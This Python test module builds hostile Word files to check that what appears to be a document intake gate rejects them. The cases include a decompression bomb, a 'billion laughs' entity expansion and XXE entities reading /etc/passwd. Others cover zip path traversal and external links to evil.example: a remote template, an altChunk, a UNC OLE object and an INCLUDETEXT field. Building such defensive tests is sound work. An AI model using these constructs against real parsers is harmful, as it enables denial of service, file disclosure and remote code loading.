"""Word documents from strangers: bombs, entities, endless tables, links to elsewhere, other files by that name."""

from __future__ import annotations

import io
import random
from collections.abc import Mapping
from functools import cache, partial

import docx

from hostile.cases import Case, Cases, Parts
from office.gate.archives import parts_of, with_stated_size, zipped
from office.gate.compound_files import compound_file

MEGABYTE = 1024 * 1024
BODY = "word/document.xml"
WORDS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
LINKS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
LAUGHS = '<!DOCTYPE x [<!ENTITY a "哈哈哈哈哈哈">' + "".join(
    f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in zip("abcdefgh", "bcdefghi", strict=True)
)
PASSWD = '<!DOCTYPE x [<!ENTITY p SYSTEM "file:///etc/passwd">]>'
CELL = "<w:tc><w:tcPr/><w:p><w:r><w:t>1.00</w:t></w:r></w:p></w:tc>"
ROW = f"<w:tr>{CELL}{CELL}</w:tr>"
PARAGRAPH = "<w:p><w:r><w:t>收入合计1.00万元。</w:t></w:r></w:p>"
OUTSIDE = (
    f'<Relationship Id="rId90" Type="{LINKS}/image" Target="http://tracker.example/a.png" TargetMode="External"/>'
    f'<Relationship Id="rId91" Type="{LINKS}/hyperlink" Target="file:////server/share/x" TargetMode="External"/>'
    f'<Relationship Id="rId92" Type="{LINKS}/attachedTemplate" Target="http://evil.example/t.dotm" '
    'TargetMode="External"/>'
    f'<Relationship Id="rId93" Type="{LINKS}/aFChunk" Target="http://evil.example/c.html" TargetMode="External"/>'
    f'<Relationship Id="rId94" Type="{LINKS}/oleObject" Target="\\\\evil.example\\o.bin" TargetMode="External"/>'
)


@cache
def _sound() -> Mapping[str, bytes]:
    document = docx.Document()
    document.add_paragraph("2025年部门预算公开")
    table = document.add_table(1, 2)
    table.rows[0].cells[0].text, table.rows[0].cells[1].text = "收入总计", "981.20"
    file = io.BytesIO()
    document.save(file)
    return parts_of(file.getvalue())


def _with(parts: Mapping[str, bytes | str], _: Parts) -> bytes:
    return zipped({**_sound(), **parts})


def _body(content: str) -> str:
    return f'<w:document xmlns:w="{WORDS}" xmlns:r="{LINKS}"><w:body>{content}</w:body></w:document>'


def _case(content: str, said: str | None, before: str = "") -> Case:
    return Case(partial(_with, {BODY: before + _body(content)}), said, ".docx")


def _part(name: str, data: bytes | str, said: str | None) -> Case:
    return Case(partial(_with, {name: data}), said, ".docx")


def _repeated(piece: str, count: int, said: str | None, around: tuple[str, str] = ("", "")) -> Case:
    """The text is made when it is needed."""

    def make(_: Parts) -> bytes:
        return _with({BODY: _body(around[0] + piece * count + around[1])}, _)

    return Case(make, said, ".docx")


def _nested(depth: int, said: str | None) -> Case:
    def make(_: Parts) -> bytes:
        inner = PARAGRAPH
        return _with(
            {
                BODY: _body(
                    "<w:tbl><w:tr><w:tc>" * depth
                    + inner
                    + f"{PARAGRAPH}</w:tc></w:tr></w:tbl>" * depth
                    + f"<w:tbl>{ROW}</w:tbl>"
                )
            },
            _,
        )

    return Case(make, said, ".docx")


def _twice(_: Parts) -> bytes:
    import warnings
    import zipfile

    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for name, data in [*_sound().items(), (BODY, _body(PARAGRAPH).encode())]:
            archive.writestr(name, data)
    return file.getvalue()


def _outside(_: Parts) -> bytes:
    links = (
        _sound()["word/_rels/document.xml.rels"]
        .decode()
        .replace("</Relationships>", OUTSIDE + "</Relationships>")
    )
    body = _body(
        f"{PARAGRAPH}<w:tbl>{ROW}</w:tbl><w:altChunk r:id='rId93'/>"
        "<w:p><w:hyperlink r:id='rId91'><w:r><w:t>点这里</w:t></w:r></w:hyperlink></w:p>"
        "<w:p><w:r><w:fldChar w:fldCharType='begin'/><w:instrText>INCLUDETEXT \"http://evil.example/x\"</w:instrText>"
        "<w:fldChar w:fldCharType='end'/></w:r></w:p>"
    )
    return _with({"word/_rels/document.xml.rels": links, BODY: body}, _)


def _is(data: bytes, said: str, suffix: str = ".docx") -> Case:
    return Case(lambda _: data, said, suffix)


def _main_outside(_: Parts) -> bytes:
    links = _sound()["_rels/.rels"].decode()
    return _with(
        {
            "_rels/.rels": links.replace(
                'Target="word/document.xml"', 'Target="http://evil.example/d.xml" TargetMode="External"'
            )
        },
        _,
    )


def _workbook(parts: Parts) -> bytes:
    return zipped(parts)


CASES: Cases = {
    "bomb": _part(BODY, b"<w:document>" + bytes(80 * MEGABYTE), "压缩炸弹"),
    "says little": Case(
        lambda _: with_stated_size(_with({BODY: _body(PARAGRAPH * 100_000)}, _), BODY, 100), "已损坏", ".docx"
    ),
    "a part twice": Case(_twice, "重名", ".docx"),
    "a part outside": _part("../../evil.xml", b"<x/>", "名称不合规"),
    "cut off": Case(lambda _: _with({}, _)[:9_000], "只有前一部分", ".docx"),
    "entities that grow": _case("<w:p><w:r><w:t>&i;</w:t></w:r></w:p>", "DOCTYPE", LAUGHS + "]>"),
    "entity of a file": _case("<w:p><w:r><w:t>&p;</w:t></w:r></w:p>", "DOCTYPE", PASSWD),
    "DOCTYPE in the styles": _part("word/styles.xml", PASSWD + "<x>&p;</x>", "DOCTYPE"),
    "no XML": _part(BODY, b"\0\1\2", "已损坏"),
    "XML cut off": _part(BODY, _body(PARAGRAPH)[:-20], "已损坏"),
    "no links": _part("_rels/.rels", b"<x/>", "已损坏"),
    "a link to itself": _part(
        "word/_rels/document.xml.rels",
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{LINKS}/styles" Target="document.xml"/></Relationships>',
        None,
    ),
    "main part elsewhere": Case(_main_outside, "已损坏", ".docx"),
    "links to elsewhere": Case(_outside, None, ".docx"),
    "tables 60 deep": _nested(60, None),
    "elements 100,000 deep": _case("<w:sdt>" * 100_000 + "</w:sdt>" * 100_000, "已损坏"),
    "1,500 tables in a cell": _repeated(
        f"<w:tbl>{ROW}</w:tbl>", 1_500, None, ("<w:tbl><w:tr><w:tc>", f"{PARAGRAPH}</w:tc></w:tr></w:tbl>")
    ),
    "a million paragraphs": _repeated(PARAGRAPH, 1_000_000, "过多"),
    "columns without end": _case(
        f'<w:tbl><w:tr><w:trPr><w:gridBefore w:val="999999999"/></w:trPr>{CELL}</w:tr></w:tbl>'
        f'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr>{PARAGRAPH}</w:tc></w:tr></w:tbl>'
        f'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="-5"/><w:vMerge/></w:tcPr>{PARAGRAPH}</w:tc></w:tr></w:tbl>',
        None,
    ),
    "a workbook": Case(_workbook, "已经是工作簿", ".docx"),
    "an old document": _is(compound_file({"WordDocument": bytes(5000)}), "旧版 Word 文档"),
    "an encrypted document": _is(
        compound_file({"EncryptionInfo": bytes(100), "EncryptedPackage": bytes(5000)}), "打开密码"
    ),
    "a web page": _is("<html><table><tr><td>收入</td></tr></table>".encode(), "网页"),
    "rich text": _is(rb"{\rtf1\ansi{\object\objocx}}", "RTF"),
    "a picture": _is(b"\x89PNG\r\n\x1a\n" + bytes(100), "图片"),
    "an empty file": _is(b"", "空文件"),
    "noise": _is(b"PK\x03\x04" + random.Random(1).randbytes(20_000), "只有前一部分"),
}
